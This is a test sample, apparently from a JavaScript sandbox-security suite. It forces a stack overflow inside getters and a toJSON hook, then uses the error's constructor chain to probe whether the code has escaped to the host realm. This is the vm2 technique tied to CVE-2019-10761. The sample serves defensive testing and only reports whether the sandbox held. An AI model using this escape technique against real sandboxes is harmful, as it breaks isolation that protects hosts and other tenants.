/*---
id: re-stack-overflow-03-getter-overflow
description: "Overflows the stack from inside getters and toJSON hooks that the runtime's own serialization runs, then checks the realm of the error the runtime hands back."
kind: malicious
category: realm-escape
technique: RE-stack-overflow
variant: combined
references:
  - "CVE-2019-10761"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
---*/
let captured = null;
const deep = { get value() { return deep.value; } };
try { JSON.stringify({ toJSON() { return deep.value; } }); } catch (e) { captured = e; }
if (captured === null || !(captured instanceof RangeError)) return 'no overflow';
try {
  if (captured.constructor.constructor('return typeof process')() !== 'undefined') return 'ESCAPED';
} catch (e) {}
// The result itself is plain data: the runtime must not trip over the overflow above.
return 'held';
